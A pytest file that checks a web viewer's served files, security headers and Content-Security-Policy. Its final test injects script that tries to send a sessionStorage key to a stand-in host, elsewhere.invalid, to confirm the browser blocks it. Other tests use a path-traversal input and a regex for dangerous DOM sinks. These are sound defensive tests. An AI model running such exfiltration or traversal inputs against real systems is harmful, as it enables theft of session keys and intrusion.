"""The viewer's files as they are served, and what the browser is told of them."""

import re
from collections.abc import Iterator
from importlib.resources import files

import httpx
import pytest

from tests.uploader.rig import NO_TLS, Service
from tests.uploader.viewer.conftest import Meetings
from uploader.backend.viewer import TYPES

FOLDER = files("resources") / "viewer"
NAMES = sorted(file.name for file in FOLDER.iterdir())
MARKUP = re.compile(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\b|setAttribute\(\"style|https?://")
NAMED = re.compile(r'(?:from "\./|(?:href|src)="/viewer/)([^"]+)"')


@pytest.fixture
def anybody(service: Service) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=service.url, trust_env=False, verify=NO_TLS) as client:
        yield client


def test_the_page_needs_no_key_and_may_do_little(anybody: httpx.Client) -> None:
    page = anybody.get("/")
    assert page.status_code == 200
    assert page.headers["Content-Type"] == "text/html; charset=utf-8"
    policy = dict(part.split(" ", 1) for part in page.headers["Content-Security-Policy"].split("; "))
    assert policy["default-src"] == policy["frame-ancestors"] == policy["base-uri"] == "'none'"
    assert policy["script-src"] == policy["style-src"] == policy["connect-src"] == policy["media-src"] == "'self'"
    assert page.headers["X-Content-Type-Options"] == "nosniff"
    assert page.headers["Referrer-Policy"] == "no-referrer"
    assert page.headers["X-Frame-Options"] == "DENY"


@pytest.mark.parametrize("name", NAMES)
def test_every_file_is_served_and_names_only_others(anybody: httpx.Client, name: str) -> None:
    answer = anybody.get(f"/viewer/{name}")
    assert answer.content == (FOLDER / name).read_bytes()
    assert answer.headers["Content-Type"] == TYPES[f".{name.rpartition('.')[2]}"]
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "Content-Security-Policy" in answer.headers
    known = anybody.get(f"/viewer/{name}", headers={"If-None-Match": answer.headers["ETag"]})
    assert (known.status_code, known.content) == (304, b"")
    assert set(NAMED.findall(answer.text)) <= set(NAMES)
    if name.endswith(".js"):
        assert not MARKUP.search(answer.text)


@pytest.mark.parametrize("path", ["/viewer/", "/viewer/nothing.js", "/viewer/..%2f__init__.py", "/viewer/a/b.js"])
def test_nothing_else_is(anybody: httpx.Client, path: str) -> None:
    assert anybody.get(path).status_code == 404
    assert anybody.post("/").status_code == 405


def test_the_browser_keeps_to_the_policy(meetings: Meetings) -> None:
    with meetings.library.opened() as page:
        page.evaluate("""(() => {
            window.forbidden = [];
            addEventListener("securitypolicyviolation", event => forbidden.push(event.effectiveDirective));
            const script = document.createElement("script");
            try { script.textContent = "window.ran = true"; } catch { forbidden.push("trusted-types"); }
            document.body.append(script);
            const image = new Image();
            image.src = "https://elsewhere.invalid/?" + sessionStorage.getItem("afterword.key");
            fetch("https://elsewhere.invalid/").catch(() => {});
            const frame = document.createElement("iframe");
            frame.src = "/";
            document.body.append(frame);
        })()""")
        page.until("['trusted-types', 'img-src', 'connect-src', 'frame-src'].every(each => forbidden.includes(each))")
        assert page.evaluate("window.ran") is None
        assert page.complaints()
